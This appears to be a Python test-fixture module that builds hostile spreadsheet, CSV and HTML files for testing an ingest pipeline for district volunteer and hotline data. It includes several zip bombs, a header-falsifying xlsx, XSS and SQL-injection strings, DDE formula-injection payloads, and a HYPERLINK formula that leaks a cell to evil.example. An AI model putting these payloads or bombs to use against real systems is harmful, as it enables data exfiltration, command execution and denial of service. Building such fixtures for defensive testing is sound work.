"""Hostile and odd district files, built by the tests: sparse sheets, zip bombs of several shapes, huge
lines, payload strings, formulas and external links. Each builder takes its size as a parameter so a
test (or a hypothesis strategy) can choose it."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

VOLUNTEER_HEADER = [
    "活动日期",
    "区县",
    "组织单位",
    "志愿服务队",
    "活动类型",
    "参与志愿者（人）",
    "服务时长（小时）",
    "服务地点",
]
HOTLINE_HEADER = ["工单编号", "受理时间", "区县", "街道", "诉求类别", "首次答复时间", "办结时间", "满意度"]
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    '"><svg onload=alert(1)>',
    '=HYPERLINK("http://evil.example/?leak="&B5,"点击")',
    "+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "&lt;b&gt;",
    "javascript:alert(1)",
    "' OR '1'='1",
    "\u202egnp.exe",
    "a\x00b",
]
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
    '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{extra}</Types>'
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook ' + NS + ' xmlns:r="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/>{sheets}</sheets>'
    "{extra}</workbook>"
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
    'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>{extra}'
    "</Relationships>"
)


def xlsx_from_sheet_xml(
    path: Path,
    sheet_xml,
    extra_members: dict[str, bytes] | None = None,
    workbook_extra: str = "",
    rels_extra: str = "",
    types_extra: str = "",
    more_sheets: dict[str, bytes] | None = None,
) -> Path:
    """A minimal xlsx whose first worksheet is ``sheet_xml`` (bytes, or an iterable of byte chunks written
    as a stream, so a bomb never exists in memory whole); ``more_sheets``: name → XML of the sheets after it."""
    more_sheets = more_sheets or {}
    names = list(more_sheets)
    workbook_sheets = "".join(
        f'<sheet name="{name}" sheetId="{i}" r:id="rIdS{i}"/>' for i, name in enumerate(names, start=2)
    )
    rels_extra += "".join(
        f'<Relationship Id="rIdS{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(2, len(names) + 2)
    )
    extra_members = {
        **(extra_members or {}),
        **{f"xl/worksheets/sheet{i}.xml": more_sheets[name] for i, name in enumerate(names, start=2)},
    }
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES.format(extra=types_extra))
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK.format(sheets=workbook_sheets, extra=workbook_extra))
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS.format(extra=rels_extra))
        if isinstance(sheet_xml, bytes):
            archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        else:
            with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
                for chunk in sheet_xml:
                    member.write(chunk)
        for name, data in (extra_members or {}).items():
            archive.writestr(name, data)
    return path


def inline(ref: str, text: str) -> str:
    from xml.sax.saxutils import escape

    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def sparse_xlsx(path: Path, far_ref: str) -> Path:
    """A volunteer header in row 1 and a single number at ``far_ref`` (e.g. XFD1048576)."""
    from etl.ingest.findings import column_letter

    header = "".join(inline(f"{column_letter(i)}1", h) for i, h in enumerate(VOLUNTEER_HEADER))
    row = int("".join(ch for ch in far_ref if ch.isdigit()))
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData><row r="1">{header}</row>'
        f'<row r="{row}"><c r="{far_ref}"><v>1</v></c></row></sheetData></worksheet>'
    )
    return xlsx_from_sheet_xml(path, xml.encode())


def row_bomb_xlsx(path: Path, unpacked_bytes: int, with_refs: bool = False) -> Path:
    """Rows of one number each, with or without ``r=`` attributes, until the sheet XML is
    ``unpacked_bytes`` long: a few hundred KB on disk."""
    head = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode()

    def chunks():
        yield head
        written, r = len(head), 1
        block_rows = 20_000
        while written < unpacked_bytes:
            if with_refs:
                block = "".join(
                    f'<row r="{r + i}"><c r="A{r + i}"><v>1</v></c></row>' for i in range(block_rows)
                ).encode()
            else:
                block = b"<row><c><v>1</v></c></row>" * block_rows
            r += block_rows
            written += len(block)
            yield block
        yield b"</sheetData></worksheet>"

    return xlsx_from_sheet_xml(path, chunks())


def shared_strings_bomb_xlsx(path: Path, unpacked_bytes: int) -> Path:
    """A tiny sheet whose sharedStrings.xml unpacks to ``unpacked_bytes``."""
    sheet = f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    path.parent.mkdir(parents=True, exist_ok=True)
    xlsx_from_sheet_xml(
        path,
        sheet.encode(),
        rels_extra=(
            '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'sharedStrings" Target="sharedStrings.xml"/>'
        ),
    )
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as member:
            member.write(f'<?xml version="1.0" encoding="UTF-8"?><sst {NS} count="1" uniqueCount="1"><si><t>'.encode())
            block = b"A" * (1 << 20)
            for _ in range(max(1, unpacked_bytes >> 20)):
                member.write(block)
            member.write(b"</t></si></sst>")
    return path


def lying_sizes_xlsx(path: Path, unpacked_bytes: int) -> Path:
    """A row bomb of ``unpacked_bytes`` whose local and central headers claim the sheet is 1,000 bytes."""
    body = b"<row><c><v>1</v></c></row>" * (unpacked_bytes // 26)
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet {NS}><sheetData>'.encode()
        + body
        + b"</sheetData></worksheet>"
    )
    xlsx_from_sheet_xml(path, xml)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    at = data.find(b"PK\x01\x02")
    while at != -1:
        if data[at + 46 : at + 46 + len(name)] == name:
            data[at + 24 : at + 28] = (1000).to_bytes(4, "little")  # central directory: uncompressed size
        at = data.find(b"PK\x01\x02", at + 4)
    at = data.find(b"PK\x03\x04")
    while at != -1:
        if data[at + 30 : at + 30 + len(name)] == name:
            data[at + 22 : at + 26] = (1000).to_bytes(4, "little")  # local header
        at = data.find(b"PK\x03\x04", at + 4)
    path.write_bytes(bytes(data))
    return path


def ods_repeat_bomb(path: Path, rows: int = 1_048_576, columns: int = 16_384) -> Path:
    """An ods (written by odfpy) whose one row of one number is repeated ``rows`` times, its cell
    ``columns`` times: a few KB that expand to rows × columns cells."""
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    path.parent.mkdir(parents=True, exist_ok=True)
    doc = OpenDocumentSpreadsheet()
    table, row, cell = Table(name="Sheet1"), TableRow(), TableCell(valuetype="float", value=1)
    cell.addElement(P(text="1"))
    row.addElement(cell)
    table.addElement(row)
    doc.spreadsheet.addElement(table)
    plain = io.BytesIO()
    doc.write(plain)
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "content.xml":
                data = data.replace(
                    b"<table:table-row>", f'<table:table-row table:number-rows-repeated="{rows}">'.encode()
                )
                data = data.replace(
                    b"<table:table-cell ", f'<table:table-cell table:number-columns-repeated="{columns}" '.encode()
                )
            target.writestr(info, data)
    return path


def html_span_bomb(path: Path, colspan: int, rowspan: int) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    cells = "".join(f"<th>{h}</th>" for h in VOLUNTEER_HEADER)
    path.write_text(
        f"<html><body><table><tr>{cells}</tr><tr><td colspan='{colspan}' rowspan='{rowspan}'>x</td>"
        "</tr></table></body></html>",
        encoding="utf-8",
    )
    return path


def long_header_line_csv(path: Path, line_bytes: int) -> Path:
    """A CSV whose first line is one field of ``line_bytes`` bytes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("wb") as handle:
        block = b"x" * (1 << 20)
        left = line_bytes
        while left > 0:
            handle.write(block[: min(left, len(block))])
            left -= len(block)
        handle.write(b"\n" + ",".join(VOLUNTEER_HEADER).encode() + b"\n")
    return path


def volunteer_csv(path: Path, rows: int = 3, district: str = "南芬区", extra: list[list[str]] | None = None) -> Path:
    """A small valid 志愿服务 CSV (UTF-8) for ``district``."""
    path.parent.mkdir(parents=True, exist_ok=True)
    lines = [f"{district}志愿服务活动统计表（2022年3月）", ",".join(VOLUNTEER_HEADER)]
    lines += [
        f"2022-03-04,{district},{district}文明办,{district}志愿{i}队,创城,{30 + i},10,{district}"
        for i in range(1, rows + 1)
    ]
    lines += [",".join(r) for r in (extra or [])]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def hotline_csv(path: Path, tickets: list[list[str]], district: str = "明山区") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    import csv

    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow([f"{district}12345热线工单导出（2021年9月）"])
        writer.writerow(HOTLINE_HEADER)
        writer.writerows(tickets)
    return path


def hotline_ticket(i: int, district: str = "明山区", street: str = "北地街道") -> list[str]:
    return [
        f"MS2021090{i:05d}",
        "2021-09-06 09:00:00",
        district,
        street,
        "城市管理",
        "2021-09-06 10:00:00",
        "2021-09-07 10:00:00",
        "满意",
    ]
